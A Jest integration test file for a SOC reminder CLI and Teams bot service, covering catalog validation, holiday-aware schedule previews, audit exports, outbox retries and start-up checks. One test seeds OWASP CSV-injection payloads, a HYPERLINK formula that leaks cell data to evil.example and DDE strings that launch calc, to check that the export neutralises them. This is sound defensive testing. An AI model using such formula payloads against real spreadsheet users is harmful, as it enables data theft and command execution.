/** The `soc-reminders` CLI and the service's start-up, run as built processes. */
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { unzipSync } from 'fflate';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BUILTIN_CATALOG_PATH, loadCatalog } from '../../src/catalog/catalog.loader';
import { ReminderService } from '../../src/reminders/reminder.service';
import { openStore, parseDatabaseUrl } from '../../src/storage/database';
import { recordPosted } from '../../src/storage/occurrence.repository';
import { enqueue, listOutbox, markDead } from '../../src/storage/outbox.repository';
import { parseCsv } from '../support/csv';
import { runCli, startServiceExpectingFailure } from '../support/process';

const BAD_CATALOG = `teams:
  - id: secops
    name: SecOps
activities:
  - id: one
    title: One
    description: d
    teams: [secops, red]
    schedule: "61 * * * *"
    dueAfter: 8 hours
  - id: one
    title: Again
    description: d
    teams: all
    timezone: Mars/Base
    colour: blue
`;

describe('soc-reminders CLI', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'soc-cli-'));
    writeFileSync(join(dir, 'bad.yaml'), BAD_CATALOG);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('validates the built-in catalog with a one-line summary', () => {
    const r = runCli(['catalog', 'validate']);
    expect(r.code).toBe(0);
    expect(r.stdout.trim()).toBe('valid: 8 activities (7 scheduled, 5 on demand), 4 teams, time zone UTC (built-in catalog)');
  });

  it('rejects a bad catalog with every error and its path, exit 1', () => {
    const r = runCli(['catalog', 'validate', '--file', join(dir, 'bad.yaml')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('activities[0].teams[1]: unknown team "red"');
    expect(r.stderr).toContain('activities[0].schedule: invalid cron expression "61 * * * *"');
    expect(r.stderr).toContain('activities[0].dueAfter: invalid duration "8 hours"');
    expect(r.stderr).toContain('activities[1].id: duplicate id "one"');
    expect(r.stderr).toContain('activities[1].timezone: unknown time zone "Mars/Base"');
    expect(r.stderr).toContain('activities[1].colour: unknown key');
  });

  it('previews October 2026 in Seoul on the KR calendar: the 10-05 weekly runs and the monthly campaign move to 10-06, the 24×7 team does not', () => {
    // The built-in catalog as a Korean SOC would run it: the KR calendar, Monitoring around the clock, and a
    // company holiday written the old way (skipDates).
    const builtin = readFileSync(BUILTIN_CATALOG_PATH, 'utf8').replace('    name_ko: 모니터링\n', '    name_ko: 모니터링\n    allHours: true\n');
    const file = join(dir, 'kr.yaml');
    writeFileSync(file, `timezone: Asia/Seoul\ncalendar: KR\nskipDates: [2026-10-19]\n${builtin}`);
    const r = runCli(['schedule', 'preview', '--from', '2026-10-01T00:00:00+09:00', '--days', '31', '--file', file, '--json']);
    expect(r.code).toBe(0);
    const rows = JSON.parse(r.stdout) as { activityId: string; teamId: string; at: string; movedFrom?: string; reason?: string; reason_ko?: string }[];
    const campaign = rows.filter((x) => x.activityId === 'phishing-dlp-campaigns');
    expect(campaign).toEqual([
      {
        activityId: 'phishing-dlp-campaigns',
        teamId: 'soc-oversight',
        at: '2026-10-06T10:00:00+09:00',
        movedFrom: '2026-10-05T10:00:00+09:00',
        reason: 'National Foundation Day (substitute day)',
        reason_ko: '개천절 (대체공휴일)',
      },
    ]);
    const weeklyOn = (day: string) => rows.filter((x) => x.at.startsWith(day) && x.at.endsWith('T10:00:00+09:00') && x.activityId !== 'phishing-dlp-campaigns');
    expect(weeklyOn('2026-10-05').map((x) => `${x.activityId}/${x.teamId}`)).toEqual(['secure-score-report/monitoring']);
    expect(weeklyOn('2026-10-06').map((x) => `${x.activityId}/${x.teamId} from ${x.movedFrom}`)).toEqual([
      'automation-deployment/engineering from 2026-10-05T10:00:00+09:00',
      'automation-deployment/secops from 2026-10-05T10:00:00+09:00',
      'portal-license-review/soc-oversight from 2026-10-05T10:00:00+09:00',
      'service-management-sync/engineering from 2026-10-05T10:00:00+09:00',
      'service-management-sync/secops from 2026-10-05T10:00:00+09:00',
    ]);
    // skipDates still works, now as an extra holiday: weekly work moves to 10-20, Monitoring (24×7) keeps 10-19.
    expect(weeklyOn('2026-10-19').map((x) => `${x.activityId}/${x.teamId}`)).toEqual(['secure-score-report/monitoring']);
    expect(new Set(weeklyOn('2026-10-20').map((x) => x.reason_ko))).toEqual(new Set(['카탈로그 지정 휴일']));
    // Daily work on the holiday is skipped, except for the 24×7 team.
    expect(rows.filter((x) => x.at.startsWith('2026-10-05') && x.activityId === 'escalation-ticket-update').map((x) => x.teamId)).toEqual(['monitoring']);

    const text = runCli(['schedule', 'preview', '--from', '2026-10-05T00:00:00+09:00', '--days', '2', '--file', file]);
    expect(text.stdout).toMatch(/^2026-10-06T10:00:00\+09:00 {2}phishing-dlp-campaigns +soc-oversight {2}moved from 2026-10-05 \(National Foundation Day \(substitute day\) \/ 개천절 \(대체공휴일\)\)$/m);
  });

  it('previews the schedule as JSON: New York daily tickets on weekdays only, across the DST change', () => {
    const r = runCli(['schedule', 'preview', '--from', '2026-03-01T00:00:00Z', '--days', '31', '--json'], { SOC_TIMEZONE: 'America/New_York' });
    expect(r.code).toBe(0);
    const rows = JSON.parse(r.stdout) as { activityId: string; teamId: string; at: string }[];
    const tickets = rows.filter((x) => x.activityId === 'escalation-ticket-update');
    const days = new Map<string, string[]>();
    for (const x of tickets) days.set(x.at.slice(0, 10), [...(days.get(x.at.slice(0, 10)) ?? []), x.teamId]);
    expect(days.size).toBe(22);
    for (const [day, teams] of days) {
      expect(teams.sort()).toEqual(['engineering', 'monitoring', 'secops', 'soc-oversight']);
      const weekday = new Date(`${day}T12:00:00Z`).getUTCDay();
      expect(weekday).toBeGreaterThanOrEqual(1);
      expect(weekday).toBeLessThanOrEqual(5);
    }
    expect(tickets.filter((x) => x.at < '2026-03-07').every((x) => x.at.endsWith('T09:00:00-05:00'))).toBe(true);
    expect(tickets.filter((x) => x.at > '2026-03-09').every((x) => x.at.endsWith('T09:00:00-04:00'))).toBe(true);
  });

  it('explains usage errors with exit 2 and has --help on each command', () => {
    const missing = runCli(['schedule', 'preview', '--days', '3']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/--from is required/);
    expect(runCli(['nonsense']).code).toBe(2);
    for (const cmd of [['catalog', 'validate'], ['schedule', 'preview'], ['audit', 'export'], ['outbox', 'list'], ['outbox', 'retry'], ['package']]) {
      const r = runCli([...cmd, '--help']);
      expect(r.code).toBe(0);
      expect(r.stdout).toContain(`soc-reminders ${cmd.join(' ')}`);
    }
  });

  it('exports every recorded event as CSV and JSON, and lists and retries dead-lettered deliveries', async () => {
    const dbFile = join(dir, 'audit.db');
    const store = await openStore(parseDatabaseUrl(dbFile));
    const catalog = loadCatalog({ defaultTimezone: 'UTC' });
    const reminders = new ReminderService({ db: store.db, catalog, clock: { now: () => Date.parse('2026-03-09T10:00:00Z') } });
    await reminders.runOnDemand('tenant-a', 'ir-tabletop-exercise', 'secops', { userId: '29:jae', name: 'Jae, "the lead"' });
    await enqueue(store.db, { tenantId: 'tenant-a', conversationKey: 'k', kind: 'reminder.post', payload: '{}', at: 1 });
    const [item] = await listOutbox(store.db);
    await markDead(store.db, item.id, undefined, 2, '403 BotNotInConversationRoster');
    await store.close();

    const csv = runCli(['audit', 'export', '--format', 'csv'], { DATABASE_URL: dbFile });
    expect(csv.code).toBe(0);
    const lines = csv.stdout.trim().split('\n');
    expect(lines[0]).toBe('id,at,tenantId,activityId,activityTitle,teamId,teamName,occurrenceId,scheduledAt,dueAt,type,from,to,actorName,actorUserId,actorEntraObjectId,note,reason,evidence,subjectName,subjectEntraObjectId');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('"Jae, ""the lead"""');
    const json = JSON.parse(runCli(['audit', 'export', '--format', 'json', '--since', '2026-03-09'], { DATABASE_URL: dbFile }).stdout);
    expect(json).toEqual([expect.objectContaining({ type: 'created', to: 'pending', actorName: 'Jae, "the lead"', note: 'on demand' })]);
    expect(JSON.parse(runCli(['audit', 'export', '--format', 'json', '--since', '2026-03-10'], { DATABASE_URL: dbFile }).stdout)).toEqual([]);

    const failed = runCli(['outbox', 'list', '--failed'], { DATABASE_URL: dbFile });
    expect(failed.stdout).toMatch(/dead\s+reminder\.post .*403 BotNotInConversationRoster/);
    const retried = runCli(['outbox', 'retry', '--all-failed'], { DATABASE_URL: dbFile });
    expect(retried.stdout.trim()).toBe('1 delivery queued again');
    expect(runCli(['outbox', 'list', '--failed'], { DATABASE_URL: dbFile }).stdout.trim()).toBe('no dead-lettered deliveries');
    expect(runCli(['outbox', 'retry', String(item.id)], { DATABASE_URL: dbFile }).code).toBe(1);
  });

  it('exports formula-like names and notes so that a spreadsheet shows them as text, and JSON as typed', async () => {
    const dbFile = join(dir, 'hostile.db');
    const store = await openStore(parseDatabaseUrl(dbFile));
    const catalog = loadCatalog({ defaultTimezone: 'UTC' });
    const reminders = new ReminderService({ db: store.db, catalog, clock: { now: () => Date.parse('2026-03-09T10:00:00Z') } });
    // A display name and a Done note as anyone in the tenant can type them (OWASP's CSV injection payloads).
    const name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const note = "@SUM(1+9)*cmd|' /C calc'!A0";
    // A leading blank does not save a cell: spreadsheets trim it.
    const closer = '  -1+cmd|calc';
    const [o] = (await reminders.runOnDemand('tenant-a', 'ir-tabletop-exercise', 'secops', { userId: '29:mallory', name })).occurrences;
    await recordPosted(store.db, o.id, Date.parse('2026-03-09T10:01:00Z'), { conversationId: '19:c@thread.tacv2;messageid=1', activityId: '1', serviceUrl: 'https://smba.test/' });
    await reminders.complete('tenant-a', o.id, { userId: '29:mallory', name: closer }, note, { isSameConversation: () => true });
    await store.close();

    const csv = runCli(['audit', 'export', '--format', 'csv'], { DATABASE_URL: dbFile });
    expect(csv.code).toBe(0);
    const [header, ...rows] = parseCsv(csv.stdout);
    const col = (h: string) => header.indexOf(h);
    expect(rows.map((r) => [r[col('type')], r[col('actorName')], r[col('note')]])).toEqual([
      ['created', `'${name}`, 'on demand'],
      ['done', `'${closer}`, `'${note}`],
    ]);
    // No cell of the export starts, after blanks, with a character that makes a spreadsheet evaluate it.
    for (const cell of rows.flat()) expect([cell, /^[ \u00A0\n]*[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);

    // JSON is for programs: the text is exactly what was typed.
    const json = JSON.parse(runCli(['audit', 'export', '--format', 'json'], { DATABASE_URL: dbFile }).stdout) as { actorName: string; note: string }[];
    expect(json.map((e) => [e.actorName, e.note])).toEqual([
      [name, 'on demand'],
      [closer, note],
    ]);
  });
});

describe('soc-reminders audit export, as an auditor reads it', () => {
  let dir: string;
  beforeAll(() => (dir = mkdtempSync(join(tmpdir(), 'soc-audit-'))));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  // 01:30 on 2 December in Seoul is still 1 December in UTC: the hours an export read in UTC used to drop.
  const AT = Date.parse('2026-12-01T16:30:00Z');
  const SEOUL = { SOC_TIMEZONE: 'Asia/Seoul' };

  async function seed(dbFile: string): Promise<void> {
    const store = await openStore(parseDatabaseUrl(dbFile));
    const catalog = loadCatalog({ defaultTimezone: 'Asia/Seoul' });
    const reminders = new ReminderService({ db: store.db, catalog, clock: { now: () => AT } });
    const here = { isSameConversation: () => true };
    const minji = { userId: '29:minji', aadObjectId: '6b1f2c3d-aaaa-4bbb-8ccc-0123456789ab', name: 'Kim Minji' };
    const [score] = (await reminders.runOnDemand('tenant-a', 'secure-score-report', 'monitoring', minji)).occurrences;
    const [drill] = (await reminders.runOnDemand('tenant-a', 'ir-tabletop-exercise', 'secops', minji)).occurrences;
    for (const o of [score!, drill!]) await recordPosted(store.db, o.id, AT, { conversationId: `19:c@thread.tacv2;messageid=${o.id}`, activityId: o.id, serviceUrl: 'https://smba.test/' });
    await reminders.complete('tenant-a', score!.id, minji, undefined, here, { secureScore: '72.5', report: 'https://contoso.sharepoint.com/sites/soc/SecureScore-2026-49.pdf' });
    await reminders.skip('tenant-a', drill!.id, minji, 'Postponed: the IR lead is on leave', here);
    await store.close();
  }

  it('names the activity, team, schedule, actor, reason and evidence of each event, in the catalog zone', async () => {
    const dbFile = join(dir, 'auditor.db');
    await seed(dbFile);
    const r = runCli(['audit', 'export', '--format', 'csv'], { DATABASE_URL: dbFile, ...SEOUL });
    expect(r.code).toBe(0);
    const [header, ...rows] = parseCsv(r.stdout);
    const byType = (type: string) => Object.fromEntries(header.map((h, i) => [h, rows.find((row) => row[header.indexOf('type')] === type)![i]]));
    expect(byType('done')).toMatchObject({
      at: '2026-12-02T01:30:00+09:00',
      activityId: 'secure-score-report',
      activityTitle: 'Generate the Secure Score report',
      teamId: 'monitoring',
      teamName: 'Monitoring',
      scheduledAt: '2026-12-02T01:30:00+09:00',
      dueAt: '2026-12-04T01:30:00+09:00',
      from: 'posted',
      to: 'done',
      actorName: 'Kim Minji',
      actorUserId: '29:minji',
      actorEntraObjectId: '6b1f2c3d-aaaa-4bbb-8ccc-0123456789ab',
      evidence: 'Secure Score (%): 72.5; Report link: https://contoso.sharepoint.com/sites/soc/SecureScore-2026-49.pdf',
    });
    expect(byType('skipped')).toMatchObject({ activityId: 'ir-tabletop-exercise', teamName: 'SecOps', reason: 'Postponed: the IR lead is on leave', note: '' });
    const json = JSON.parse(runCli(['audit', 'export', '--format', 'json'], { DATABASE_URL: dbFile, ...SEOUL }).stdout) as { type: string; evidenceValues?: unknown }[];
    expect(json.find((e) => e.type === 'done')!.evidenceValues).toEqual({ secureScore: 72.5, report: 'https://contoso.sharepoint.com/sites/soc/SecureScore-2026-49.pdf' });
  });

  it('names whom an assignment gave the task to, and lists rotation changes from chat with who made them (issue 14)', async () => {
    const dbFile = join(dir, 'rotations.db');
    const store = await openStore(parseDatabaseUrl(dbFile));
    const catalog = loadCatalog({ defaultTimezone: 'Asia/Seoul' });
    const reminders = new ReminderService({ db: store.db, catalog, clock: { now: () => AT } });
    const admin = { userId: '29:sam', aadObjectId: '6b1f2c3d-aaaa-4bbb-8ccc-00000000000a', name: 'Sam Admin' };
    const lee = { id: '6b1f2c3d-aaaa-4bbb-8ccc-00000000000b', name: 'Lee Jun' };
    const [score] = (await reminders.runOnDemand('tenant-a', 'secure-score-report', 'monitoring', admin)).occurrences;
    await recordPosted(store.db, score!.id, AT, { conversationId: '19:c@thread.tacv2', activityId: score!.id, serviceUrl: 'https://smba.test/' });
    await reminders.assign('tenant-a', score!.id, admin, { assignee: { aadObjectId: lee.id, name: lee.name }, how: 'reassign' }, { isSameConversation: () => true });
    await reminders.changeRotation('tenant-a', 'monitoring', [lee], admin);
    await reminders.changeRotation('tenant-a', 'monitoring', undefined, admin);
    await store.close();

    const events = JSON.parse(runCli(['audit', 'export', '--format', 'json'], { DATABASE_URL: dbFile, ...SEOUL }).stdout) as Record<string, string>[];
    expect(events.find((e) => e.type === 'assigned')).toMatchObject({ actorName: 'Sam Admin', note: 'reassign', subjectName: 'Lee Jun', subjectEntraObjectId: lee.id });
    const r = runCli(['audit', 'rotations'], { DATABASE_URL: dbFile, ...SEOUL });
    expect(r.code).toBe(0);
    const [header, ...rows] = parseCsv(r.stdout);
    expect(header).toEqual(['id', 'at', 'tenantId', 'teamId', 'teamName', 'from', 'to', 'actorName', 'actorUserId', 'actorEntraObjectId']);
    expect(rows.map((row) => row.slice(1))).toEqual([
      ['2026-12-02T01:30:00+09:00', 'tenant-a', 'monitoring', 'Monitoring', '(catalog)', `Lee Jun <${lee.id}>`, 'Sam Admin', '29:sam', admin.aadObjectId],
      ['2026-12-02T01:30:00+09:00', 'tenant-a', 'monitoring', 'Monitoring', `Lee Jun <${lee.id}>`, '(catalog)', 'Sam Admin', '29:sam', admin.aadObjectId],
    ]);
  });

  it('reads --since and --until without an offset in the catalog zone, and with one as given', async () => {
    const dbFile = join(dir, 'window.db');
    await seed(dbFile);
    const count = (...args: string[]) => {
      const r = runCli(['audit', 'export', '--format', 'json', ...args], { DATABASE_URL: dbFile, ...SEOUL });
      expect([args, r.code, r.stderr]).toEqual([args, 0, '']);
      return (JSON.parse(r.stdout) as unknown[]).length;
    };
    const all = count();
    expect(all).toBe(4); // two created, one done, one skipped (posts here went through recordPosted, not the worker)
    expect(count('--since', '2026-12-02')).toBe(all); // Seoul's midnight, 15:00 UTC the day before
    expect(count('--since', '2026-12-02T00:00:00Z')).toBe(0); // an offset is taken as given
    expect(count('--until', '2026-12-02T01:30')).toBe(0); // until is exclusive
    expect(count('--since', '2026-12-02T01:30', '--until', '2026-12-02T01:31')).toBe(all);
    expect(count('--until', '2026-12-01T16:31:00+00:00')).toBe(all);
    const bad = runCli(['audit', 'export', '--since', '2026-02-30'], { DATABASE_URL: dbFile, ...SEOUL });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--since: "2026-02-30" is not a date/);
    // Both audit commands read the same options the same way: an empty window is a usage error, not an empty file.
    for (const command of ['export', 'rotations']) {
      const empty = runCli(['audit', command, '--since', '2026-12-02', '--until', '2026-12-01'], { DATABASE_URL: dbFile, ...SEOUL });
      expect([command, empty.code, empty.stderr]).toEqual([command, 2, expect.stringMatching(/--until must be after --since/)]);
    }
  });
});

describe('soc-reminders package', () => {
  let dir: string;
  beforeAll(() => (dir = mkdtempSync(join(tmpdir(), 'soc-pkg-'))));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('builds the Teams app package from the environment, and names each missing variable', () => {
    const out = join(dir, 'appPackage.zip');
    const ok = runCli(['package', '--out', out], {
      TEAMS_APP_ID: '6f1c2d3e-4b5a-4c7d-8e9f-0a1b2c3d4e5f',
      MicrosoftAppId: 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee',
      MicrosoftAppPassword: 'not-a-real-secret',
      PUBLIC_HOSTNAME: 'soc-reminders.contoso.com',
    });
    expect(ok.code).toBe(0);
    const files = unzipSync(readFileSync(out));
    expect(Object.keys(files).sort()).toEqual(['color.png', 'ko.json', 'manifest.json', 'outline.png']);
    const manifest = JSON.parse(Buffer.from(files['manifest.json']!).toString('utf8'));
    expect(manifest.bots[0].botId).toBe('aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee');
    expect(manifest.validDomains).toContain('soc-reminders.contoso.com');

    const missing = runCli(['package', '--out', join(dir, 'no.zip')]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/TEAMS_APP_ID is not set/);
    expect(missing.stderr).toMatch(/MicrosoftAppId is not set/);
    expect(missing.stderr).toMatch(/PUBLIC_HOSTNAME is not set/);
  });
});

describe('service start-up refuses bad input', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'soc-start-'));
    writeFileSync(join(dir, 'bad.yaml'), BAD_CATALOG);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('stops with exit 1 and every catalog error, before it listens or opens the database', async () => {
    const r = await startServiceExpectingFailure({ SOC_CATALOG_FILE: join(dir, 'bad.yaml'), DATABASE_URL: join(dir, 'x.db') });
    expect(r.code).toBe(1);
    expect(r.output).toContain('activities[0].teams[1]: unknown team "red"');
    expect(r.output).toContain('activities[1].colour: unknown key');
    expect(r.output).not.toMatch(/SOC Reminders started/);
    // Not even migrated: an older build can still be rolled back to after a bad catalog.
    expect(existsSync(join(dir, 'x.db'))).toBe(false);
  });

  it('stops with exit 1 naming each bad variable', async () => {
    const r = await startServiceExpectingFailure({ PORT: 'eighty', SOC_TIMEZONE: 'Mars/Base', SOC_LOCALE: 'fr', DATABASE_URL: join(dir, 'y.db') });
    expect(r.code).toBe(1);
    expect(r.output).toMatch(/PORT: "eighty"/);
    expect(r.output).toMatch(/SOC_TIMEZONE: unknown time zone "Mars\/Base"/);
    expect(r.output).toMatch(/SOC_LOCALE: "fr"/);
  });

  it('does not print the app password when it refuses a configuration', async () => {
    const r = await startServiceExpectingFailure({ MicrosoftAppId: 'not-a-guid', MicrosoftAppPassword: 'S3cr3t-Value-That-Must-Not-Leak', DATABASE_URL: join(dir, 'z.db') });
    expect(r.code).toBe(1);
    expect(r.output).toMatch(/MicrosoftAppId/);
    expect(r.output).not.toContain('S3cr3t-Value-That-Must-Not-Leak');
  });
});
